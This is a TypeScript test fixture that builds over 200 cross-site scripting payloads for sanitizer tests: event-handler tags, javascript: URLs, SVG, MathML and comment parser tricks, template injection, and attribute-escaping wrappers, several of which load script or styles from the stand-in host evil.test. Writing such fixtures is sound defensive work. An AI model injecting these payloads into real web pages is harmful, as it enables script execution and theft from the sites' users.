/** What a script of ours would do, if one ran: tests look for it. */
const RUN = "top.__hit=1";

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" ONERROR="${RUN}"/>`,
  `<img/src/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="//evil.test/">x</a>`,
  `<a href="/\\evil.test/">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerover=${RUN} style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.test/>`,
  `<img src=//evil.test/pixel.png>`,
  `<img src="/img/w/320?src=https%3A%2F%2Fevil.test" srcset="//evil.test/x.png 2x">`,
  `<table background="javascript:${RUN}"><tr><td>x</table>`,
  `{{constructor.constructor('${RUN}')()}}`,
  "${" + RUN + "}",
  `javascript:${RUN}`,
  `\u2028\u2029\u0000\u202e${RUN}`,
  "x".repeat(300),
];

/** They swallow what stands behind them, so they come last. */
const SWALLOWERS = [
  `<style>*{display:none!important}</style>`,
  `<style>@import '//evil.test/x.css';</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<template><script>${RUN}</script></template>`,
  `<title><script>${RUN}</script>`,
  `<textarea><script>${RUN}</script>`,
  `<xmp><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>`,
  `<plaintext>`,
];

const encode = (text: string) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
const WRAPPERS = [
  (tag: string) => tag,
  (tag: string) => `">${tag}`,
  (tag: string) => `'>${tag}`,
  (tag: string) => `</script></title></textarea></style>--></td></table>${tag}`,
  encode,
  (tag: string) => tag.toUpperCase().replaceAll(RUN.toUpperCase(), RUN),
];

/** More than 200 attempts to make a text run or mislead. */
export const XSS_PAYLOADS = [TAGS, SWALLOWERS].flatMap((tags) => WRAPPERS.flatMap((wrap) => tags.map(wrap)));
